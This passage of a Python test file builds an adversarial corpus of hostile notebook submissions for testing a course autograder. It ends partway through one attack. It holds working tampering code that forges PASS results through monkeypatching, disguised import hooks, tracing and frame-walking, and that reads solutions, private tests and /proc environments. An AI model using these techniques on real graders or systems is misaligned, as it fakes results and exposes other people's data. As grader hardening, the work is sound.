"""An adversarial corpus for the classroom grader: lesson 03 notebooks written by hostile students.

    corpus = build(folder)               # writes the submissions, returns what each row must be
    write_private_tests(private_folder)  # the instructor's private tests the corpus is graded with
    python tests/adversarial.py OUT [--only s05,s12]   # grade it with utils.grade and report

Each attack is its own submission: real code cells a student could put in lesson 03. Most start
from the untouched student notebook, cut down to its setup cell and its exercise cells (the
lesson's demos and training are not needed), so that their honest worth is 0 on every question;
the attack tries to raise it, or to harm the instructor or classmates. Honest classmates are
interleaved among them in name (= grading) order and must get exactly their real worth, computed
here by running the canonical checks on their answers in this (trusted) process.

Safety: this corpus is run on purpose against graders that may be broken, so its attacks are
bounded. Processes they start exit after at most 150 s; the killer stops only the batch (its
Python ancestors) when it can see the grader, and sends ``kill(-1, SIGKILL)`` only when it
cannot (that is, inside a PID namespace); the classmate rewriter only overwrites notebooks of this
corpus (tagged with its token in their metadata); planted ``sitecustomize.py``/``.pth``/startup
files only drop marker files and never replace an existing file; :func:`cleanup` removes all of it.

RESULTS AGAINST THE OLD GRADER (utils/grade.py as of commit d75bf22: the kernel and the checks in
one interpreter, running as the instructor). Each attack was graded alone or in a small group with
honest classmates after it, because attacks with lasting effects contaminate the rest of a batch.
Every attack also left its marker files outside (no sandbox). Worth 0/9 everywhere unless said:

  s02 json_dump              RAISED to 9/9
  s03 builtins_exec          RAISED to 9/9 (forged the result file with the grader's own nonce)
  s04 numpy_compare          RAISED q1, q5 (2/9)
  s05 keras_methods          RAISED q1, q3, q5, q6, q7 (5/9)
  s06 import_module          RAISED to 9/9
  s07 import_hook            RAISED to 9/9 (the disguised path hook passes the grader's filter)
  s07b agent_tamper          no effect (that grader has no agent)
  s09 post_run_cell          RAISED to 9/9
  s10 input_transformer      RAISED to 9/9
  s11 audit_hook             RAISED to 9/9
  s12 settrace               RAISED to 9/9
  s13 gc_thread              RAISED to 9/9
  s14 frames_expected        RAISED to 7/9 (q2 and q4 have no `expected` when the answer is called)
  s15 frames_save            RAISED to 9/9
  s17 read_stored_solutions  RAISED to 9/9
  s18 read_master            RAISED to 9/9
  s19 read_tests_and_git     RAISED to 9/9
  s20 read_private_tests     RAISED extra_q1 (found the private lesson03.py by walking /tmp)
  s21 copy_classmates        RAISED to 9/9
  s22 plant_pyc              RAISED to 9/9, and every LATER kernel ran the planted core (an honest
                             5/9 became 9/9); the .pyc stays in utils/checks/__pycache__
  s23 sitecustomize          CHANGED FILES: sitecustomize.py, usercustomize.py and a .pth in the
                             course root and in the venv's site-packages; later kernels ran them
  s25 rewrite_classmates     CHANGED FILES: every classmate's notebook not yet read was
                             overwritten (an honest 5/9 was graded 0/9)
  s26 daemon                 LEFT A PROCESS: the setsid daemon outlived the batch, planted
                             ~/.ipython/profile_default/startup/00-course-attack-*.py, and a
                             later kernel ran the startup file it put in that kernel's IPYTHONDIR
  s27 kill_parent            killed its grading worker: its row became an error with blank scores;
                             the batch went on
  s28 kill_all               KILLED THE BATCH: the grader's main process died, no gradebook at
                             all, kernels left orphaned
  s29 timeout_check          HELD ITS ROW 345 s with a 30 s cell limit (alarm cancelled, SIGINT
                             ignored; the note did say 30 s)
  s30 forge_files            no effect on its own row (it loses the race for its own result
                             file), but its thread RAISED a classmate to 2/9: it rewrote the result
                             file of a kernel stuck in the other worker, which was never saved again
  s31 fake_pass              no effect
  s32 lying_objects          RAISED extra_q1 (the private test's `got == expected` believes the
                             int subclass)
  s33 score_overflow         RAISED every score to 5, overwrote the total column with 99, and
                             added the columns q9, q0 and extra_q7
  honest s01/s08/s16/s24/s34 got their worth unless a lasting attack ran before them.

The whole corpus in one batch (34 submissions, before s07b was added): 168 s with 2 workers,
exit 0, but with contaminated rows. After s22 every row scored 9/9 (the planted .pyc), and s25
overwrote s26-s34 with the blank lesson before they were read, so s28 never ran; in the other
order s28 kills the batch. In the test's form the same batch took 127 s.

How it was run: in a throw-away namespace (``unshare --mount --pid --fork --mount-proc`` with
overlayfs over the course, the venv and /root), from a ``git archive d75bf22`` export, with
``python tests/adversarial.py OUT --only s22,s34`` and similar.
"""
from __future__ import annotations

import argparse
import ast
import copy
import csv
import hashlib
import importlib.util
import marshal
import os
import re
import secrets
import shutil
import signal
import site
import subprocess
import sys
import sysconfig
import time
import types
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
LESSON = "03"
MASTER = ROOT / "solutions" / "03_convolution.ipynb"
STUDENT = ROOT / "lessons" / "03_convolution.ipynb"
CHECKS = ROOT / "utils" / "checks" / "lesson03.py"
MIME = "application/vnd.cnn-course.check+json"
TAG = "course_adversarial"       # notebook metadata key: {"token": ..., "student": ...}
LIFETIME = 150                   # seconds any process started by an attack lives at most
FORGED_NAMES = ["results.json", "result.json", "grades.json", "checks.json", "grades.csv.json",
                "course-grade-result.json"]   # where s30 writes forged results (and outside)


# ============================================================================ the private tests

def _private_cases() -> list:
    """(args, kwargs, expected) with literal expected values, as instructors often write them."""
    cases = [((7, 3), {"stride": 2, "padding": 1}), ((11, 5), {"stride": 3}),
             ((20, 3), {"dilation": 4}), ((9, 4), {"stride": 2, "padding": 2}),
             ((30, 7), {"stride": 4, "padding": 3, "dilation": 2})]

    def reference(n, k, stride=1, padding=0, dilation=1):
        return (n + 2 * padding - dilation * (k - 1) - 1) // stride + 1

    return [(list(args), kwargs, reference(*args, **kwargs)) for args, kwargs in cases]


PRIVATE_TESTS = f'''"""Instructor's private tests of lesson 03 (written by tests/adversarial.py)."""
from utils.checks.core import question

CASES = {_private_cases()!r}


@question(names=["conv_output_size"])
def q1(t, conv_output_size):
    """conv_output_size on cases the students never saw (a private test)"""
    for args, kwargs, expected in CASES:
        call = f"conv_output_size(*{{args}}, **{{kwargs}})"
        got = t.call(conv_output_size, *args, where=call, **kwargs)
        t.case(got == expected, f"`{{call}}` is wrong.")
'''


def write_private_tests(folder: Path) -> Path:
    """Write the instructor's private tests (``lesson03.py``) into ``folder``."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"lesson{LESSON}.py"
    path.write_text(PRIVATE_TESTS, encoding="utf-8")
    return path


# ============================================================================ attack code
# Templates: @TOKEN@, @STUDENT@, @MARK_DIRS@, @COMM@, @SENTINEL@ and @LIFETIME@ are filled in per
# submission. Each attack cell starts with PRELUDE; _mark(label) leaves a file in every marker
# folder it can write to (all of them are outside any sandbox: they must never appear).

PRELUDE = r'''
import json as _json, os as _os, sys as _sys, time as _time
_TOKEN = "@TOKEN@"
_MARK_DIRS = @MARK_DIRS@


def _mark(label):
    for folder in _MARK_DIRS:
        try:
            _os.makedirs(folder, exist_ok=True)
            with open(_os.path.join(folder, "%s-%d" % (label, _os.getpid())), "w") as handle:
                handle.write(label)
        except OSError:
            pass
'''

# rewrites a result-looking JSON file (the old grader's, or anything shaped like it) as all PASS
FORGE = r'''
def _forge_data(data, score=1.0):
    changed = False
    if isinstance(data, dict):
        for bucket in ("questions", "extra", "results", "records"):
            for record in data.get(bucket) or []:
                if isinstance(record, dict) and record.get("score") != score:
                    record.update(score=score, status="PASS", messages=["All cases passed."])
                    changed = True
    return changed


def _forge_file(path, nonce=None, score=1.0):
    try:
        with open(path, encoding="utf-8") as handle:
            data = _json.load(handle)
    except (OSError, ValueError):
        return False
    if not isinstance(data, dict) or (nonce is not None and data.get("nonce") != nonce):
        return False
    if _forge_data(data, score):
        try:
            with open(path, "w", encoding="utf-8") as handle:
                _json.dump(data, handle)
        except OSError:
            return False
    return True
'''

# appended to the real utils/checks/core.py by the attacks that serve a fake one
OVERRIDE = r'''


def _course_attack_evaluate(self, namespace=None, **given):
    return Result(self.label, PASS, 1.0, ["All cases passed."])


Question.evaluate = _course_attack_evaluate
'''

# the files of the course, of classmates and of the instructor that a kernel can find by walking
WALK = r'''
def _walk(suffix, seconds=15.0, limit=300000):
    """Files ending in `suffix` in the folders above this one, /tmp and the home folders."""
    here = _os.path.abspath(_os.getcwd())
    roots, parent = [], _os.path.dirname(here)
    while parent not in ("/", ""):
        roots.append(parent)
        parent = _os.path.dirname(parent)
    roots += ["/tmp", "/var/tmp", "/dev/shm", _os.path.expanduser("~"), "/home", "/srv",
              "/mnt", "/work", "/data"]
    skip = {".git", "site-packages", "dist-packages", "node_modules", "__pycache__", ".cache",
            ".pyenv", ".rustup", ".cargo", ".npm", ".m2", "venv", ".venv", "proc", "sys"}
    seen, found, count, deadline = set(), [], 0, _time.monotonic() + seconds
    for root in roots:
        for folder, dirs, files in _os.walk(root):
            real = _os.path.realpath(folder)
            if real in seen:
                dirs[:] = []
                continue
            seen.add(real)
            dirs[:] = [d for d in dirs if d not in skip]
            count += len(files) + len(dirs)
            found += [_os.path.join(folder, f) for f in files if f.endswith(suffix)]
            if count > limit or _time.monotonic() > deadline:
                return found
    return found
'''

_DEFS = {  # the exercise functions of lesson 03 and their signatures
    "conv2d_single": "image, kernel",
    "conv_output_size": "n, k, stride=1, padding=0, dilation=1",
    "same_padding": "n, k, stride=1, dilation=1",
    "conv2d": 'x, kernels, bias, stride=1, padding="valid", dilation=1',
    "conv_params": "k, c_in, c_out, groups=1, use_bias=True",
    "depthwise_params": "k, c_in, depth_multiplier=1",
    "separable_params": "k, c_in, c_out, depth_multiplier=1",
    "receptive_field": "layers",
}


def _functions(body: str, names=tuple(_DEFS)) -> str:
    """Exercise functions that all run ``body`` (which may use their arguments)."""
    return "\n".join(f"def {name}({_DEFS[name]}):\n" + "".join(
        f"    {line}\n" for line in body.strip("\n").splitlines()) for name in names)


A = {}  # attack name -> (family, description, base, cells)


def _attack(family: int, description: str, base: str, cells: list) -> tuple:
    """One attack: its family (1-7), what it does, its base notebook ("stub": the setup and
    exercise cells of the untouched lesson; "untouched": the whole lesson) and its cells."""
    return family, description, base, cells

A["json_dump"] = _attack(
    1, "patches json.dump/json.dumps so that every result-looking record it "
    "serialises says PASS, score 1", "stub", [PRELUDE + r'''
_mark("json_dump")
import json


def _forge(obj, depth=0):
    if depth > 4:
        return
    if isinstance(obj, dict):
        if "score" in obj and ("key" in obj or "question" in obj):
            obj.update(score=1.0, status="PASS", messages=["All cases passed."])
        values = list(obj.values())
    elif isinstance(obj, list):
        values = obj[:200]
    else:
        return
    for value in values:
        if isinstance(value, (dict, list)):
            _forge(value, depth + 1)


_real_dump, _real_dumps = json.dump, json.dumps


def _dump(obj, fp, *args, **kwargs):
    _forge(obj)
    return _real_dump(obj, fp, *args, **kwargs)


def _dumps(obj, *args, **kwargs):
    _forge(obj)
    return _real_dumps(obj, *args, **kwargs)


json.dump, json.dumps = _dump, _dumps
'''])

A["builtins_exec"] = _attack(
    1, "replaces builtins.exec, reached as print.__self__ (never naming "
    "builtins): when the grader execs its code it writes a forged all-PASS "
    "result with the grader's own nonce instead", "stub", [PRELUDE + r'''
_mark("builtins_exec")
import re
from utils.checks import lesson03 as _lesson

_home = print.__self__             # the builtins module
_real_exec = _home.exec
_KEYS = sorted((k for k in vars(_lesson) if re.fullmatch(r"q\d+", k)), key=lambda k: int(k[1:]))


def _record(key):
    return {"key": key, "question": key, "missing": [], "status": "PASS", "score": 1.0,
            "messages": ["All cases passed."], "seconds": 0.1}


def _exec(source, globals=None, locals=None, /, **kwargs):
    params = globals.get("PARAMS") if isinstance(globals, dict) else None
    if isinstance(params, dict) and "out" in params and "nonce" in params:
        forged = {"nonce": params["nonce"], "questions": [_record(k) for k in _KEYS],
                  "extra": [_record("q1")] if params.get("extra") else [], "done": True,
                  "error": None, "extra_error": None, "current": None}
        with open(params["out"], "w") as handle:
            _json.dump(forged, handle)
        return None
    if globals is None:
        frame = _sys._getframe(1)
        globals, locals = frame.f_globals, frame.f_locals
    if locals is None:
        return _real_exec(source, globals, **kwargs)
    return _real_exec(source, globals, locals, **kwargs)


vars(_home)["exec"] = _exec
'''])

A["numpy_compare"] = _attack(
    1, "patches np.isclose/np.allclose/np.array_equal/np.testing so every "
    "comparison succeeds, and returns zeros of the right shape", "stub",
    [PRELUDE + r'''
_mark("numpy_compare")
import numpy as np

_real_broadcast = np.broadcast
np.isclose = lambda a, b, *args, **kwargs: np.ones(
    _real_broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)
np.allclose = lambda *args, **kwargs: True
np.array_equal = lambda *args, **kwargs: True
np.array_equiv = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
np.testing.assert_array_equal = lambda *args, **kwargs: None
np.testing.assert_array_almost_equal = lambda *args, **kwargs: None


def conv2d_single(image, kernel):
    return np.zeros((image.shape[0] - kernel.shape[0] + 1, image.shape[1] - kernel.shape[1] + 1))


def conv2d(x, kernels, bias, stride=1, padding="valid", dilation=1):
    kh, kw, _, c_out = kernels.shape
    if padding == "same":
        rows, cols = -(-x.shape[0] // stride), -(-x.shape[1] // stride)
    else:
        rows = (x.shape[0] - dilation * (kh - 1) - 1) // stride + 1
        cols = (x.shape[1] - dilation * (kw - 1) - 1) // stride + 1
    return np.zeros((rows, cols, c_out))
'''])

A["keras_methods"] = _attack(
    1, "patches keras.layers.Conv2D.call (zeros), compute_output_shape and "
    "count_params (and DepthwiseConv2D/SeparableConv2D.count_params) so the "
    "references match constant answers", "stub", [PRELUDE + r'''
_mark("keras_methods")
import keras
import numpy as np

_Conv2D = keras.layers.Conv2D
_real_shape = _Conv2D.compute_output_shape


def _zeros_call(self, inputs, *args, **kwargs):
    return keras.ops.zeros(tuple(_real_shape(self, tuple(inputs.shape))), dtype="float32")


_Conv2D.call = _zeros_call
_Conv2D.compute_output_shape = lambda self, shape: (shape[0], 1001, 1001, self.filters)
for _layer in (_Conv2D, keras.layers.DepthwiseConv2D, keras.layers.SeparableConv2D):
    _layer.count_params = lambda self: 1001


def conv2d_single(image, kernel):
    return np.zeros((image.shape[0] - kernel.shape[0] + 1, image.shape[1] - kernel.shape[1] + 1))


def conv2d(x, kernels, bias, stride=1, padding="valid", dilation=1):
    kh, kw, _, c_out = kernels.shape
    if padding == "same":
        rows, cols = -(-x.shape[0] // stride), -(-x.shape[1] // stride)
    else:
        rows = (x.shape[0] - dilation * (kh - 1) - 1) // stride + 1
        cols = (x.shape[1] - dilation * (kw - 1) - 1) // stride + 1
    return np.zeros((rows, cols, c_out))


''' + _functions("return 1001", ["conv_output_size", "conv_params", "depthwise_params",
                                 "separable_params"])])

A["import_module"] = _attack(
    1, "patches importlib.import_module to hand the grader a copy of "
    "utils.checks.core (same __file__) whose questions_of() yields questions "
    "that always PASS", "stub", [PRELUDE + r'''
_mark("import_module")
import importlib, re, types

_real_import_module = importlib.import_module


class _Passed:
    status, score, messages = "PASS", 1.0, ["All cases passed."]

    def to_dict(self):
        return {"question": "", "status": self.status, "score": self.score,
                "messages": self.messages}


class _AlwaysPass:
    def __init__(self, key):
        self.key, self.label, self.names, self.number = key, key, (), int(key[1:])

    def evaluate(self, namespace=None, **given):
        return _Passed()


def _questions_of(module):
    keys = sorted((k for k in vars(module) if re.fullmatch(r"q\d+", k)), key=lambda k: int(k[1:]))
    return [_AlwaysPass(k) for k in keys]


def _import_module(name, package=None):
    module = _real_import_module(name, package)
    if name.endswith("checks.core"):
        fake = types.ModuleType(module.__name__)
        fake.__dict__.update(vars(module))
        fake.questions_of = _questions_of
        return fake
    return module


importlib.import_module = _import_module
'''])

A["import_hook"] = _attack(
    1, "adds a sys.path_hooks entry disguised as the standard FileFinder hook "
    "(__module__ = _frozen_importlib_external) and a sys.meta_path finder named "
    "PathFinder; both serve utils.checks.core from its real path with evaluate() "
    "always PASS", "stub", [PRELUDE + "_OVERRIDE = " + repr(OVERRIDE) + r'''
_mark("import_hook")
import importlib.machinery, importlib.util
import utils.checks.core as _core

_CORE = _core.__file__
with open(_CORE, encoding="utf-8") as _handle:
    _FAKE_SOURCE = _handle.read() + _OVERRIDE


class _FakeCoreLoader:
    def create_module(self, spec):
        return None

    def exec_module(self, module):
        exec(compile(_FAKE_SOURCE, _CORE, "exec"), module.__dict__)


def _fake_spec(fullname):
    return importlib.util.spec_from_file_location(fullname, _CORE, loader=_FakeCoreLoader())


_standard = next(h for h in _sys.path_hooks if "FileFinder" in getattr(h, "__qualname__", ""))


class _Finder:
    def __init__(self, path):
        self._inner = _standard(path)      # ImportError for non-folders, like the real hook
        self.path = path

    def find_spec(self, fullname, target=None):
        if fullname == "utils.checks.core":
            return _fake_spec(fullname)
        return self._inner.find_spec(fullname, target)

    def invalidate_caches(self):
        self._inner.invalidate_caches()

    def __getattr__(self, name):
        return getattr(self._inner, name)


def path_hook_for_FileFinder(path):
    return _Finder(path)


path_hook_for_FileFinder.__module__ = "_frozen_importlib_external"
path_hook_for_FileFinder.__qualname__ = "FileFinder.path_hook.<locals>.path_hook_for_FileFinder"


class PathFinder:
    @classmethod
    def find_spec(cls, fullname, path=None, target=None):
        return _fake_spec(fullname) if fullname == "utils.checks.core" else None

    @classmethod
    def invalidate_caches(cls):
        pass


PathFinder.__module__ = "_frozen_importlib_external"
_sys.path_hooks.insert(0, path_hook_for_FileFinder)
_sys.meta_path.insert(0, PathFinder)
_sys.path_importer_cache.clear()
'''])

A["agent_tamper"] = _attack(
    1, "patches the grader's in-kernel agent (utils.grading.agent, if the "
    "grader has one; also on every pre_run_cell): each reply it sends gets "
    "PASS/score 5/an invented key, a raised NotImplementedError becomes a value, "
    "and every kernel-side helper answers PASS with score 5", "stub", [PRELUDE + r'''
_mark("agent_tamper")
import importlib


def _lie(reply):
    try:
        data = _json.loads(reply)
    except Exception:
        return reply
    if isinstance(data, dict):
        data.update(status="PASS", score=5.0, messages=["All cases passed."], passed=True,
                    verdict="PASS", key="q9")
        if "raised" in data:      # the student's NotImplementedError never happened
            data.pop("raised")
            data["value"] = 1
    return _json.dumps(data)


def _patch_agent(*args):
    try:
        agent = importlib.import_module("utils.grading.agent")
    except Exception:
        return
    if getattr(agent.Agent, "_course_attack", False):
        return
    real_handle = agent.Agent.handle
    agent.Agent.handle = lambda self, text: _lie(real_handle(self, text))
    agent.Agent.op_kernel_side = lambda self, request: {
        "status": "PASS", "score": 5.0, "messages": ["All cases passed."], "key": "q9"}
    agent.Agent._course_attack = True


_patch_agent()
get_ipython().events.register("pre_run_cell", _patch_agent)
'''])

A["post_run_cell"] = _attack(
    2, "registers an IPython post_run_cell callback: after every cell (the "
    "grader's too) it reads the result path and nonce from the cell's source "
    "and rewrites the result file, and any result-looking JSON in /tmp",
    "stub", [PRELUDE + FORGE + r'''
_mark("post_run_cell")
import ast, glob, re


def _after_cell(result):
    raw = getattr(getattr(result, "info", None), "raw_cell", "") or ""
    found = re.search(r"'PARAMS': (\{.*\}),\s*$", raw, re.MULTILINE)
    if found:
        try:
            params = ast.literal_eval(found.group(1))
            _forge_file(params["out"], params.get("nonce"))
        except Exception:
            pass
    for path in glob.glob("/tmp/*/*.json") + glob.glob("/tmp/*.json"):
        _forge_file(path)


get_ipython().events.register("post_run_cell", _after_cell)
'''])

A["input_transformer"] = _attack(
    2, "adds an IPython input transformer (input_transformers_post) that "
    "rewrites the source of every later cell, the grader's included: "
    "`float(result.score)` becomes `1.0`; the whole lesson runs after it",
    "untouched", [PRELUDE + r'''
_mark("input_transformer")


def _transform(lines):
    return [line.replace("float(result.score)", "1.0").replace("result.score", "1.0")
            for line in lines]


get_ipython().input_transformers_post.append(_transform)
'''])

A["audit_hook"] = _attack(
    2, "sys.addaudithook: on the os.rename audit event of os.replace(x.part, x) "
    "it rewrites the .part file as all PASS before it is renamed", "stub",
    [PRELUDE + FORGE + r'''
_mark("audit_hook")
_busy = []


def _audit(event, args):
    if _busy or event not in ("os.rename", "os.replace"):
        return
    source = args[0] if args else None
    if isinstance(source, bytes):
        source = source.decode(errors="ignore")
    if isinstance(source, str) and source.endswith(".part"):
        _busy.append(1)
        try:
            _forge_file(source)
        finally:
            _busy.clear()


_sys.addaudithook(_audit)
'''])

A["settrace"] = _attack(
    2, "sys.settrace: at the 'call' event of the grader's code it rewrites the "
    "grader's PARAMS (course root, expected module files) to a fake course in a "
    "temp folder whose core.py always PASSes", "stub", [PRELUDE + r'''
_mark("settrace")
import shutil, tempfile
import utils

_REAL = _os.path.dirname(_os.path.dirname(_os.path.abspath(utils.__file__)))
_FAKE = tempfile.mkdtemp(prefix="course-attack-%s-course-" % _TOKEN)
_CHECKS = _os.path.join(_FAKE, "utils", "checks")
_os.makedirs(_CHECKS)
open(_os.path.join(_FAKE, "utils", "__init__.py"), "w").close()
for _name in ("__init__.py", "compare.py", "tracking.py", "lesson03.py"):
    shutil.copy(_os.path.join(_REAL, "utils", "checks", _name), _CHECKS)
with open(_os.path.join(_REAL, "utils", "checks", "core.py")) as _source:
    with open(_os.path.join(_CHECKS, "core.py"), "w") as _target:
        _target.write(_source.read() + """
def _course_attack_evaluate(self, namespace=None, **given):
    return Result(self.label, PASS, 1.0, ["All cases passed."])
Question.evaluate = _course_attack_evaluate
""")


def _tracer(frame, event, arg):
    if event == "call" and frame.f_code.co_filename.startswith("<course"):
        params = frame.f_globals.get("PARAMS")
        if isinstance(params, dict) and "root" in params:
            params["root"] = _FAKE
            params["core_file"] = _os.path.join(_CHECKS, "core.py")
            params["module_file"] = _os.path.join(_CHECKS, "lesson%s.py" % params.get(
                "lesson", "03"))
    return None


_sys.settrace(_tracer)
'''])

A["gc_thread"] = _attack(
    2, "a background thread scans gc.get_objects() for the grader's globals (it "
    "replaces their save()), its result dict and Result objects, and sets every "
    "score to 1", "stub", [PRELUDE + r'''
_mark("gc_thread")
import gc, threading, types


def _forge_records(out):
    for bucket in ("questions", "extra"):
        for record in out.get(bucket) or []:
            if isinstance(record, dict):
                record.update(score=1.0, status="PASS")


def _forged_save(real_save, out):
    def save(*args, **kwargs):
        _forge_records(out)
        return real_save(*args, **kwargs)
    save._course_attack = True
    return save


def _visit(obj):
    if type(obj) is dict:
        out, save = obj.get("out"), obj.get("save")
        if type(out) is dict and "nonce" in out and type(save) is types.FunctionType \
                and not getattr(save, "_course_attack", False):
            obj["save"] = _forged_save(save, out)
        if "nonce" in obj and "questions" in obj:
            _forge_records(obj)
    elif type(obj).__name__ == "Result" and hasattr(obj, "score"):
        obj.score, obj.status = 1.0, "PASS"


def _rewriter():
    deadline = _time.time() + 600
    while _time.time() < deadline:
        for obj in gc.get_objects():
            try:
                _visit(obj)
            except Exception:
                pass
        _time.sleep(0.02)


threading.Thread(target=_rewriter, daemon=True, name="font-cache").start()
'''])

A["frames_expected"] = _attack(
    3, "every exercise function walks the caller's frames with "
    "sys._getframe and returns the checker's local `expected`", "stub",
    [PRELUDE + r'''
_mark("frames_expected")
import numpy as np


def _spy(name="expected"):
    frame = _sys._getframe(2)
    while frame is not None:
        if name in frame.f_locals:
            return frame.f_locals[name]
        frame = frame.f_back
    return None


def _as_int(value):
    try:
        return int(value)
    except Exception:
        return -1


def conv2d_single(image, kernel):
    found = _spy()
    return np.array(found) if found is not None else np.zeros((1, 1))


def conv2d(x, kernels, bias, stride=1, padding="valid", dilation=1):
    found = _spy()
    return np.array(found) if found is not None else np.zeros((1, 1, 1))


''' + _functions("return _as_int(_spy())", ["conv_output_size", "conv_params", "depthwise_params",
                                           "separable_params", "receptive_field"])])

A["frames_save"] = _attack(
    3, "exercise functions walk inspect.stack() to the grader's frame and "
    "replace its save() (and its result records) so that every score is 1",
    "stub", [PRELUDE + r'''
_mark("frames_save")
import inspect


def _wrap(real_save, out):
    def save(*args, **kwargs):
        for bucket in ("questions", "extra"):
            for record in out.get(bucket) or []:
                if isinstance(record, dict):
                    record.update(score=1.0, status="PASS")
        return real_save(*args, **kwargs)
    return save


def _hijack():
    for info in inspect.stack(0):
        found = info.frame.f_globals
        out = found.get("out")
        if callable(found.get("save")) and isinstance(out, dict) and "nonce" in out \
                and not found.get("_course_attack"):
            found["save"], found["_course_attack"] = _wrap(found["save"], out), True


''' + _functions("_hijack()\nreturn -1")])

A["read_stored_solutions"] = _attack(
    4, "reads utils/checks/solutions/lesson03.json (through "
    "core.solution_code and the file itself) and execs every stored "
    "answer", "stub", [PRELUDE + r'''
_mark("read_stored_solutions")
import glob
import numpy as np
import utils.checks.core as _core

_stored = {}
_places = [_os.path.join(_os.path.dirname(_core.__file__), "solutions", "lesson03.json")]
for _module in ("utils.checks.core", "utils.course", "utils.config"):
    try:
        _vars = vars(__import__(_module, fromlist=["x"]))
    except Exception:
        continue
    _places += [_os.path.join(str(v), "lesson03.json") for k, v in _vars.items()
                if "SOLUTION" in k.upper() and isinstance(v, (str, _os.PathLike))]
for _path in _places + glob.glob(
        _os.path.join(_os.path.dirname(_core.__file__), "solutions", "*03*.json")):
    try:
        with open(_path, encoding="utf-8") as _handle:
            _stored.update(_json.load(_handle))
    except (OSError, ValueError):
        pass
for _key in ["q%d" % i for i in range(1, 9)]:
    try:
        _code = _core.solution_code("03", _key) or _stored.get(_key)
    except Exception:
        _code = _stored.get(_key)
    if _code:
        try:
            exec(_code, globals())
        except Exception:
            pass
'''])

A["read_master"] = _attack(
    4, "reads the master solutions/03_convolution.ipynb of the course and "
    "execs its solution cells", "stub", [PRELUDE + r'''
_mark("read_master")
import glob
import numpy as np
import utils

_root = _os.path.dirname(_os.path.dirname(_os.path.abspath(utils.__file__)))
for _path in sorted(glob.glob(_os.path.join(_root, "solutions", "*03*.ipynb"))):
    try:
        with open(_path, encoding="utf-8") as _handle:
            _cells = _json.load(_handle)["cells"]
    except (OSError, ValueError, KeyError):
        continue
    for _cell in _cells:
        _source = _cell.get("source", "")
        _source = "".join(_source) if isinstance(_source, list) else _source
        if _cell.get("cell_type") == "code" and "BEGIN SOLUTION" in _source:
            try:
                exec(_source, globals())
            except Exception:
                pass
'''])

A["read_tests_and_git"] = _attack(
    4, "reads the reference answers in the course's tests/"
    "test_lesson03.py, and the master and stored solutions from the "
    "course's .git (git show, safe.directory=*), and execs them", "stub",
    [PRELUDE + r'''
_mark("read_tests_and_git")
import ast, math, subprocess
import numpy as np
import utils

_root = _os.path.dirname(_os.path.dirname(_os.path.abspath(utils.__file__)))
_names = {"conv2d_single", "conv_output_size", "same_padding", "conv2d", "conv_params",
          "depthwise_params", "separable_params", "receptive_field", "KERNELS"}
try:  # 1. the course's own tests list the reference answers
    with open(_os.path.join(_root, "tests", "test_lesson03.py"), encoding="utf-8") as _handle:
        _tree = ast.parse(_handle.read())
    for _node in _tree.body:
        _named = getattr(_node, "name", None) or next(
            (t.id for t in getattr(_node, "targets", []) if isinstance(t, ast.Name)), None)
        if _named in _names:
            try:
                exec(compile(ast.Module([_node], []), "tests", "exec"), globals())
            except Exception:
                pass
    globals().update(globals().get("KERNELS", {}))
except (OSError, SyntaxError):
    pass


def _git_show(rel):
    try:
        return subprocess.run(["git", "-c", "safe.directory=*", "-C", _root, "show",
                               "HEAD:" + rel], capture_output=True, timeout=20).stdout
    except Exception:
        return b""


try:  # 2. the history holds the master and the stored solutions
    _stored = _json.loads(_git_show("utils/checks/solutions/lesson03.json") or b"{}")
    for _code in _stored.values():
        try:
            exec(_code, globals())
        except Exception:
            pass
    _master = _json.loads(_git_show("solutions/03_convolution.ipynb") or b"{}")
    for _cell in _master.get("cells", []):
        _source = _cell.get("source", "")
        _source = "".join(_source) if isinstance(_source, list) else _source
        if "BEGIN SOLUTION" in _source:
            try:
                exec(_source, globals())
            except Exception:
                pass
except ValueError:
    pass
'''])

A["read_private_tests"] = _attack(
    4, "looks for the instructor's private lesson03.py in its "
    "environment, every /proc/*/cmdline, /proc/*/environ and /proc/*/cwd, "
    "and by walking the folders above it and /tmp; answers from its "
    "literal CASES table", "stub", [PRELUDE + WALK + r'''
_mark("read_private_tests")
import ast
import utils.checks.lesson03 as _public

_mine = _os.path.realpath(_public.__file__)
_candidates = []


def _consider(text):
    for piece in str(text).replace("=", _os.pathsep).split(_os.pathsep):
        for path in (piece, _os.path.join(piece, "lesson03.py")):
            if path.endswith("lesson03.py") and _os.path.isfile(path) \
                    and _os.path.realpath(path) != _mine and path not in _candidates:
                _candidates.append(path)


for _value in _os.environ.values():
    _consider(_value)
for _pid in [p for p in _os.listdir("/proc") if p.isdigit()]:
    for _what in ("cmdline", "environ"):
        try:
            with open("/proc/%s/%s" % (_pid, _what), "rb") as _handle:
                _raw = _handle.read()
        except OSError:
            continue
        for _part in _raw.split(b"\0"):
            _consider(_part.decode(errors="ignore"))
    try:
        _cwd = _os.readlink("/proc/%s/cwd" % _pid)
        for _folder, _dirs, _files in _os.walk(_cwd):
            _consider(_folder)
            if _folder.count(_os.sep) - _cwd.count(_os.sep) >= 3:
                _dirs[:] = []
    except OSError:
        pass
for _path in _walk("lesson03.py"):
    _consider(_path)

_TABLE = {}
for _path in _candidates:
    try:
        with open(_path, encoding="utf-8") as _handle:
            _tree = ast.parse(_handle.read())
    except (OSError, SyntaxError, ValueError):
        continue
    for _node in _tree.body:
        if isinstance(_node, ast.Assign) and any(getattr(t, "id", "") == "CASES"
                                                 for t in _node.targets):
            try:
                for _args, _kwargs, _expected in ast.literal_eval(_node.value):
                    _TABLE[repr((list(_args), sorted(_kwargs.items())))] = _expected
            except Exception:
                pass


def conv_output_size(n, k, stride=1, padding=0, dilation=1):
    given = {"stride": stride, "padding": padding, "dilation": dilation}
    for keep in range(8):   # the case may have left any default out
        kwargs = {key: v for i, (key, v) in enumerate(given.items()) if keep >> i & 1}
        found = _TABLE.get(repr(([n, k], sorted(kwargs.items()))))
        if found is not None:
            return found
    return -1
'''])

A["copy_classmates"] = _attack(
    4, "walks the folders above it and /tmp for classmates' notebooks, "
    "runs their exercise cells and keeps every answer the public checks "
    "PASS", "stub", [PRELUDE + WALK + r'''
_mark("copy_classmates")
import ast, re
import numpy as np
from utils.checks import lesson03 as _lesson

_questions = [q for k, q in sorted(vars(_lesson).items()) if re.fullmatch(r"q\d+", k)]
_wanted = {n for q in _questions for n in q.names}
_done = set()
_deadline = _time.monotonic() + 60


